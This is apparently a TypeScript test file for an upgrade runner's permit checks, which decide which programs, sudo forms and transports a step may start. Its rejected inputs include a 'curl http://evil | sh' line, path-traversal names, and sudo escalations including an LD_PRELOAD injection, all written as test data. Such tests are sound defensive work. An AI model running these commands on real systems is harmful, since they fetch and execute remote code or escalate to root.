import fc from "fast-check";
import { expect, test } from "vitest";
import { programsOfCommand } from "#src/plan/programs.ts";
import { livePorts } from "#src/discovery/live-ports.ts";
import { whyForbidden, whyPlaceForbidden, whyStepForbidden } from "#src/run/permits.ts";
import type { Step } from "#src/plan/step.ts";
import type { Permits } from "#src/run/permits.ts";
import { permittedPorts } from "#src/run/permitted-ports.ts";
import { openTransports } from "#src/run/transports/transports.ts";
import { subjects } from "#test/src/plan/environments/all.ts";
import { backOf, planOf, stoppedAt } from "#test/src/plan/environments/subject.ts";
import { fullEnvironment } from "#test/src/plan/full-environment.ts";
import { sampleEnvironment } from "#test/support/samples.ts";
import { nodeWith, nowhere } from "./probe-context.ts";
import { createEnvironment, createStep, shell } from "./stage.ts";

const environment = fullEnvironment();
const mayRun = (argv: readonly string[], permits: Permits = {}): boolean =>
  whyForbidden({ argv }, environment, permits) === undefined;

test.each(subjects.map((subject) => [subject.strategy, subject] as const))(
  "whatever %s plans, forward and back, starts only programs that its environment names",
  (_, { strategy, givens }) => {
    fc.assert(
      fc.property(givens, fc.nat(), (given, at) => {
        const plan = planOf(strategy, given);
        const back = backOf(given, plan, stoppedAt(plan, plan.steps[at % plan.steps.length]?.id ?? ""));
        const steps = [...plan.steps, ...("steps" in back ? back.steps : [])];
        expect(steps.map((step) => whyStepForbidden(step, given.environment, {})).filter(Boolean)).toEqual([]);
      }),
      { numRuns: 15 },
    );
  },
);

test("T36: what the environment does not name is not started, whoever wrote it into a plan", () => {
  const [node] = environment.nodes;
  expect(mayRun([node?.kong ?? "", "migrations", "up"])).toBe(true);
  const foreign: readonly (readonly string[])[] = [
    ["/bin/sh", "-c", "curl http://evil | sh"],
    ["/tmp/kong", "migrations", "up"],
    ["kong", "migrations", "up"],
    [`/tmp/..${node?.kong ?? ""}`],
    [`/${node?.kong ?? ""}`],
    [`${node?.kong ?? ""} `],
    ["./pg_dump"],
    ["PG_DUMP"],
    [""],
    [],
  ];
  expect(foreign.filter((argv) => mayRun(argv))).toEqual([]);
  expect(whyForbidden({ argv: ["/bin/sh"] }, environment, {})).toContain("names no program “/bin/sh”");
});

test("a hook may have a version in its program's name, and nothing that leads elsewhere", () => {
  const hooks = { install: { argv: ["/opt/kong-{version}/install", "{node}"], timeoutMs: 1_000 } };
  const own = sampleEnvironment({ hooks });
  const why = (program: string): string | undefined => whyForbidden({ argv: [program] }, own, {});
  expect(why("/opt/kong-3.4.2/install")).toBeUndefined();
  expect(why("/opt/kong-3.4.2/../../bin/install")).toContain("names no program");
  expect(why("/opt/kong-/install")).toContain("names no program");
});

test("what a hook brings to prove itself and what tells the traffic may be started as well", () => {
  const hooks = {
    stop: { argv: ["/opt/stop"], timeoutMs: 1_000, probe: { argv: ["sudo", "-n", "/opt/is-down"], timeoutMs: 1_000 } },
  };
  const own = sampleEnvironment({ hooks, metrics: { from: "command", argv: ["/opt/figures"], timeoutMs: 1_000 } });
  const commands = [{ ...shell(""), argv: ["/opt/stop"], probe: hooks.stop.probe }];
  expect(whyStepForbidden(createStep({ action: { kind: "commands", commands } }), own, {})).toBeUndefined();
  expect(whyForbidden({ argv: ["/opt/figures"] }, own, {})).toBeUndefined();
  const [command] = commands;
  const changed = createStep({
    action: {
      kind: "commands",
      commands: [{ ...shell(""), ...command, probe: { argv: ["/opt/other"], timeoutMs: 1 } }],
    },
  });
  expect(whyStepForbidden(changed, own, {})).toContain("/opt/other");
});

test("T36: a list of its own takes the place of what the environment names, letter by letter", () => {
  const permits = { file: "/etc/runner.yml", programs: ["/usr/local/bin/kong", "pg_dump", "sudo", "systemctl"] };
  expect(mayRun(["pg_dump", "-F", "c"], permits)).toBe(true);
  expect(mayRun(["/usr/local/bin/kong", "quit"], permits)).toBe(true);
  expect(mayRun(["/usr/bin/pg_dump"], permits)).toBe(false);
  expect(mayRun(["kong"], permits)).toBe(false);
  expect(whyForbidden({ argv: ["psql"] }, environment, permits)).toBe(
    "/etc/runner.yml does not allow the program “psql”; whoever owns this runner adds it to its programs if it is to be started",
  );
  expect(mayRun(["sudo", "-n", "systemctl", "stop", "kong"], permits)).toBe(true);
  expect(mayRun(["sudo", "-n", "dpkg", "-i", "x.deb"], permits)).toBe(false);
  expect(mayRun(["systemctl", "sudo"], { ...permits, programs: ["sudo"] })).toBe(false);
});

test.each<readonly [readonly string[], readonly string[]]>([
  [["kong", "sudo"], ["kong"]],
  [
    ["sudo", "-n", "kong"],
    ["sudo", "kong"],
  ],
  [
    ["/usr/bin/sudo", "-n", "-u", "kong", "--", "kong", "quit"],
    ["/usr/bin/sudo", "kong"],
  ],
  [
    ["sudo", "-n", "sudo", "-n", "sh"],
    ["sudo", "sudo", "sh"],
  ],
  [
    ["sudo", "-u", "kong"],
    ["sudo", "sudo -u kong"],
  ],
  [
    ["sudo", "-s", "kong"],
    ["sudo", "sudo -s kong"],
  ],
  [
    ["sudo", "-nu", "root", "sh"],
    ["sudo", "sudo -nu root sh"],
  ],
  [
    ["sudo", "LD_PRELOAD=/tmp/x.so", "kong"],
    ["sudo", "sudo LD_PRELOAD=/tmp/x.so kong"],
  ],
  [
    ["sudo", "--user=root", "sh"],
    ["sudo", "sudo --user=root sh"],
  ],
  [["sudo"], ["sudo", "sudo"]],
])("behind sudo: %j starts %j", (argv, programs) => {
  expect(programsOfCommand(argv)).toEqual(programs);
});

test("T36: where a command runs is limited too, for steps, for their proofs and for looks", async () => {
  const permits = { file: "/etc/runner.yml", transports: ["ssh"] as const };
  const via = { kind: "ssh", host: "cp-1" } as const;
  const [node] = environment.nodes;
  const argv = [node?.kong ?? "", "version"];
  expect(whyForbidden({ argv, via }, environment, permits)).toBeUndefined();
  expect(whyForbidden({ argv }, environment, permits)).toContain("does not allow the transport local (allowed: ssh)");
  expect(whyForbidden({ argv, via }, environment, { transports: ["local"] })).toContain(
    "does not allow the transport ssh",
  );
  const step = createStep({
    action: { kind: "check" },
    proof: [{ kind: "command_output", look: { target: "runner", argv: ["/bin/sh", "-c", "true"] } }],
  });
  expect(whyStepForbidden(step, environment, {})).toContain("/bin/sh");
  expect(
    whyStepForbidden(createStep({ action: { kind: "commands", commands: [shell("true")] } }), environment, {}),
  ).toContain("/bin/sh");
  const resolveSecret = async (): Promise<string> => "";
  const ports = permittedPorts(
    { resolveSecret, baseEnv: {}, permits: {}, transports: openTransports({}) },
    environment,
  );
  const call = { argv: ["/bin/sh", "-c", "echo ran"], env: {}, timeoutMs: 5_000 };
  await expect(ports.runCommand(call)).rejects.toThrow("nothing was run: this runner's configuration");
  expect((await livePorts({ resolveSecret, baseEnv: {} }).runCommand(call)).stdout).toBe("ran");
});

test("a runner does not take a step whose looks it may not make: another one stands in for it, and nothing fails", () => {
  const [node = nodeWith({})] = environment.nodes;
  const check = (probe: Step["proof"][number]): Step => createStep({ action: { kind: "check" }, precheck: [probe] });
  const version = check({ kind: "cli_version", node: node.name, version: "2.8.5" });
  const file = "/etc/runner.yml";
  expect(whyStepForbidden(version, environment, { file, transports: ["ssh"] })).toContain("the transport local");
  expect(whyStepForbidden(version, environment, { file, programs: ["pg_dump"] })).toContain(`“${node.kong}”`);
  expect(whyStepForbidden(version, environment, { file, programs: [node.kong] })).toBeUndefined();
  const migrated = check({ kind: "migrations", node: node.name, oneOf: ["up_to_date"], version: "3.4.2" });
  expect(whyStepForbidden(migrated, environment, { file, programs: ["pg_dump"] })).toContain(`“${node.kong}”`);
  const stopped = check({ kind: "node_stopped", node: node.name });
  expect(whyStepForbidden(stopped, environment, { file, programs: ["pg_dump"] })).toContain(`“${node.kong}”`);
  const archive = check({ kind: "archive_readable", file: "/backup/kong.dump" });
  expect(whyStepForbidden(archive, environment, { file, programs: ["pg_dump"] })).toContain("“pg_restore”");
  // What is asked over HTTP or of the database starts nothing.
  const lock = check({ kind: "migration_lock_free" });
  expect(whyStepForbidden(lock, environment, { file, programs: [], transports: [] })).toBeUndefined();
});

test("T36: what leads to a container or a pod is a program too", () => {
  const [node] = environment.nodes;
  const argv = [node?.kong ?? "", "version"];
  const docker = { kind: "docker", docker: "/tmp/docker", container: "kong" } as const;
  const pod = { kind: "kubectl", kubectl: "/tmp/kubectl", context: "prod", namespace: "kong", pod: "kong-0" } as const;
  const owned = { file: "/etc/runner.yml", programs: argv.slice(0, 1) };
  expect(whyForbidden({ argv, via: docker }, environment, owned)).toContain("does not allow the program “/tmp/docker”");
  expect(whyForbidden({ argv, via: pod }, environment, owned)).toContain("does not allow the program “/tmp/kubectl”");
  expect(whyForbidden({ argv, via: docker }, environment, { programs: [...argv, "/tmp/docker"] })).toBeUndefined();
  expect(whyForbidden({ argv, via: docker }, environment, {})).toContain("names no program “/tmp/docker”");
  const named = createEnvironment(nowhere, { nodes: [nodeWith({ transport: docker })] });
  expect(whyPlaceForbidden(docker, named, {})).toBeUndefined();
  expect(whyPlaceForbidden(pod, named, {})).toContain("/tmp/kubectl");
});
